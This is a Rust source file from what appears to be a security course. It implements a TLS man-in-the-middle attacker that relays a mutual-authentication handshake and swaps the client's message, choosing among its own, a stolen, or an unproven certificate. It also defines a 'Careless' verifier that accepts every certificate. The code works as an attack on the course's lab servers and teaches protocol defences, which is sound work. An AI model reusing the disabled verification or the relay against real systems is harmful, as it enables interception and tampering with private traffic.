use std::io::{ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::sync::Arc;
use std::thread;

use anyhow::{Context, Result, ensure};
use auth::Key;
use auth::mutual::{ChannelBinding, GREETING, authenticate_server};
use rustls::client::danger::{HandshakeSignatureValid, ServerCertVerified, ServerCertVerifier};
use rustls::crypto::ring::default_provider;
use rustls::pki_types::pem::PemObject;
use rustls::pki_types::{CertificateDer, PrivateKeyDer, ServerName, UnixTime};
use rustls::sign::{CertifiedKey, SingleCertAndKey};
use rustls::{ClientConfig, ClientConnection, DigitallySignedStruct, ServerConfig, SignatureScheme, StreamOwned};
use tls::TlsStream;

use crate::attacks::Outcome;
use crate::middle::lure_with;
use crate::target::{Server, Target};

/// What the attacker sends in place of the client's message.
pub(crate) const CHANGED: &str = "I never wrote this";

/// The certificate of naive-tls-server and its private key, which everyone can steal.
pub(crate) const CERTIFICATE: &str =
    concat!(env!("CARGO_MANIFEST_DIR"), "/../../lesson-8-tls/naive-tls-server/certificate.pem");
pub(crate) const PRIVATE_KEY: &str =
    concat!(env!("CARGO_MANIFEST_DIR"), "/../../lesson-8-tls/naive-tls-server/private-key.pem");

/// Who noticed the attacker.
pub(crate) const CLIENT_REFUSES: Outcome = Outcome::Stands("client refuses");
pub(crate) const SERVER_REFUSES: Outcome = Outcome::Stands("server refuses");

/// The certificate that the attacker shows to the client.
#[derive(Clone, Copy, PartialEq, Eq)]
pub(crate) enum Shows {
    /// One that the attacker made.
    Own,
    /// The server's, with its private key, which was stolen.
    Stolen,
    /// The server's, without its private key: the attacker signs with another one.
    Unproven,
}

/// An attacker who has one TLS connection to a server and will have another one to its client.
pub(crate) struct TlsMiddle {
    server: StreamOwned<ClientConnection, TcpStream>,
    /// The first message of the server.
    nonce: Vec<u8>,
}

impl TlsMiddle {
    /// Connects to the server, and receives its nonce.
    pub(crate) fn connect(server: &Server) -> Result<TlsMiddle> {
        let config = tls::client_config_without_verification()?;
        let connection = ClientConnection::new(config, server.address.ip().into())?;
        let mut stream = StreamOwned::new(connection, server.connect()?);
        let lacks = || format!("{} sends no nonce over TLS: this attack is for naive-tls-server", server.address);
        let mut nonce = vec![0; 32];
        stream.read_exact(&mut nonce).with_context(lacks)?;
        if nonce.starts_with(GREETING) {
            nonce.resize(GREETING.len() + 32, 0);
            stream.read_exact(&mut nonce[32..]).with_context(lacks)?;
        }
        Ok(TlsMiddle { server: stream, nonce })
    }

    /// Whether the server is that of a mutual handshake.
    pub(crate) fn is_mutual(&self) -> bool {
        self.nonce.starts_with(GREETING)
    }

    /// Accepts the client, passes the handshake on, and then reads and changes a message.
    pub(crate) fn relay(mut self, target: &Target, client: TcpStream, shows: Shows) -> Result<Outcome> {
        let mut client = match TlsStream::accept(client, &self.config(shows)?) {
            Err(tls::Error::Alert(_)) => return Ok(CLIENT_REFUSES),
            client => client?,
        };
        let outcome = self.session(target, &mut client);
        client.close();
        outcome
    }

    fn session(&mut self, target: &Target, client: &mut TlsStream<TcpStream>) -> Result<Outcome> {
        client.write_all(&self.nonce)?;
        let (response_len, proof_len) = if self.is_mutual() { (64, 32) } else { (16, 0) };
        let mut response = vec![0; response_len];
        client.read_exact(&mut response).context("the client does not respond")?;
        target.tell("passed on the nonce of the server and the response of the client");
        let Some(proof) = self.exchange(&response, proof_len)? else { return Ok(SERVER_REFUSES) };
        client.write_all(&proof)?;
        let mut message = [0; 64];
        let count = client.read(&mut message).context("the client sends no message")?;
        target.tell(&format!("the client sends: {}", String::from_utf8_lossy(&message[..count])));
        let echo_len = "[Thu May 10 22:00:19 2018] ".len() + CHANGED.len();
        let Some(echo) = self.exchange(CHANGED.as_bytes(), echo_len)? else { return Ok(SERVER_REFUSES) };
        target.tell(&format!("the server receives: {CHANGED}"));
        client.write_all(&echo)?;
        target.tell(&format!("the client receives: {}", String::from_utf8_lossy(&echo)));
        ensure!(&message[..count] == b"hello" && echo.ends_with(CHANGED.as_bytes()), "this is not what was sent");
        Ok(Outcome::Falls("read and changed"))
    }

    /// Sends a message to the server, and returns its reply, unless it hangs up.
    fn exchange(&mut self, message: &[u8], reply_len: usize) -> Result<Option<Vec<u8>>> {
        use ErrorKind::{BrokenPipe, ConnectionReset, UnexpectedEof};
        let mut reply = vec![0; reply_len];
        match self.server.write_all(message).and_then(|()| self.server.read_exact(&mut reply)) {
            Err(error) if matches!(error.kind(), BrokenPipe | ConnectionReset | UnexpectedEof) => Ok(None),
            result => Ok(result.map(|()| Some(reply))?),
        }
    }

    /// Returns how the attacker speaks TLS with the client.
    fn config(&self, shows: Shows) -> Result<Arc<ServerConfig>> {
        let provider = default_provider();
        let real = self.server.conn.peer_certificates().context("the server has no certificate")?.to_vec();
        let own = rcgen::generate_simple_self_signed(["localhost".to_owned()])?;
        let own_key = provider.key_provider.load_private_key(own.signing_key.into())?;
        let shown = match shows {
            Shows::Own => CertifiedKey::new(vec![own.cert.into()], own_key),
            Shows::Stolen => CertifiedKey::from_der(real, PrivateKeyDer::from_pem_file(PRIVATE_KEY)?, &provider)?,
            Shows::Unproven => CertifiedKey::new(real, own_key),
        };
        let config = ServerConfig::builder().with_no_client_auth();
        Ok(Arc::new(config.with_cert_resolver(Arc::new(SingleCertAndKey::from(shown)))))
    }
}

/// Starts a client that binds its proof to the exporter, but does not check who signed the TLS handshake. Returns the
/// attacker's end of its connection.
pub(crate) fn lure_careless(key: &str) -> Result<TcpStream> {
    let key = Key::new(key)?;
    let (client, _) = lure_with(|address| Ok(thread::Builder::new().spawn(move || careless_client(address, &key))?))?;
    Ok(client)
}

fn careless_client(server: SocketAddr, key: &Key) -> Result<()> {
    let config = ClientConfig::builder().dangerous().with_custom_certificate_verifier(Arc::new(Careless));
    let config = Arc::new(config.with_no_client_auth());
    let mut tls = TlsStream::connect(TcpStream::connect(server)?, &config, server.ip().into())?;
    let channel = ChannelBinding::TlsExporter(tls.exporter()?);
    authenticate_server(&mut tls, key, channel)?;
    tls.write_all(b"hello")?;
    tls.read_exact(&mut [0])?;
    Ok(())
}

/// Accepts every certificate from anybody, as naive-tls-client does.
#[derive(Debug)]
struct Careless;

impl ServerCertVerifier for Careless {
    fn verify_server_cert(
        &self,
        _: &CertificateDer<'_>,
        _: &[CertificateDer<'_>],
        _: &ServerName<'_>,
        _: &[u8],
        _: UnixTime,
    ) -> Result<ServerCertVerified, rustls::Error> {
        Ok(ServerCertVerified::assertion())
    }

    fn verify_tls12_signature(
        &self,
        _: &[u8],
        _: &CertificateDer<'_>,
        _: &DigitallySignedStruct,
    ) -> Result<HandshakeSignatureValid, rustls::Error> {
        Ok(HandshakeSignatureValid::assertion())
    }

    fn verify_tls13_signature(
        &self,
        _: &[u8],
        _: &CertificateDer<'_>,
        _: &DigitallySignedStruct,
    ) -> Result<HandshakeSignatureValid, rustls::Error> {
        Ok(HandshakeSignatureValid::assertion())
    }

    fn supported_verify_schemes(&self) -> Vec<SignatureScheme> {
        default_provider().signature_verification_algorithms.supported_schemes()
    }
}
